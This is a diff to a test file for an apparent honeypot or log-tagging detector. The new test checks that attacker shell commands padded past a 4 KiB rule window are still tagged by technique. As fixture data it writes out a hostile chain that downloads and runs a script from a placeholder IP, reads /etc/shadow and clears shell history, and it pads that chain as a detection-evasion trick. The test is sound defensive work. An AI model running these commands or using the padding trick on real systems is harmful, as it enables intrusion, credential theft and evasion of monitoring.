@@ -65,6 +65,30 @@ for (const kind of DATABASE_KINDS) {
       assert.equal(tags[2].evidence, 'cat /etc/passwd')
     })
 
+    it('tags a payload padded past the 4 KiB a rule sees at once like the bare payload, and stores the cut in the evidence', async (t) => {
+      const db = await setup(t, kind)
+      const bare = 'wget http://203.0.113.9/x.sh; sh x.sh; cat /etc/shadow; crontab -l; history -c'
+      const noop = `: ${'A'.repeat(4100)}; ${bare}`
+      await insertLogs(db, [
+        commandLog('203.0.113.7', 0, bare),
+        commandLog('203.0.113.7', 1, noop),
+        commandLog('203.0.113.7', 2, `${'true;'.repeat(1000)}${bare}`),
+        {...commandLog('203.0.113.8', 3, ''), fields: '{}', msg: `CMD uid=0 user=root src=203.0.113.8 pwd=/root cmd=${noop}`},
+      ])
+      await ttpTick(db, {matcher})
+      const tags = await readTags(db)
+      const techniquesOf = (logId) => tags.filter((tag) => tag.log_id === logId).map((tag) => `${tag.rule_id} ${tag.sub_technique_id ?? tag.technique_id}`)
+      assert.equal(techniquesOf(1).length, 4)
+      for (const logId of [2, 3, 4]) assert.deepEqual(techniquesOf(logId), techniquesOf(1), `log ${logId}`)
+      const note = ` [cut: rules saw ${(noop.length - 6).toLocaleString('en-US')} of ${noop.length.toLocaleString('en-US')} characters]`
+      for (const logId of [2, 4]) {
+        const evidence = tags.filter((tag) => tag.log_id === logId).map((tag) => tag.evidence).sort()
+        assert.deepEqual(evidence, [`cat /etc/shadow${note}`, `history -c${note}`, `sh x.sh${note}`, `wget http://203.0.113.9/x.sh${note}`])
+      }
+
+      assert.deepEqual(tags.filter((tag) => tag.log_id === 3).map((tag) => tag.evidence).sort(), ['cat /etc/shadow', 'history -c', 'sh x.sh', 'wget http://203.0.113.9/x.sh'])
+    })
+
     it('never duplicates a tag when lines are tagged again, and resumes from its cursor', async (t) => {
       const db = await setup(t, kind)
       await insertLogs(db, [commandLog('203.0.113.7', 0, 'id'), commandLog('203.0.113.7', 1, 'ps aux')])
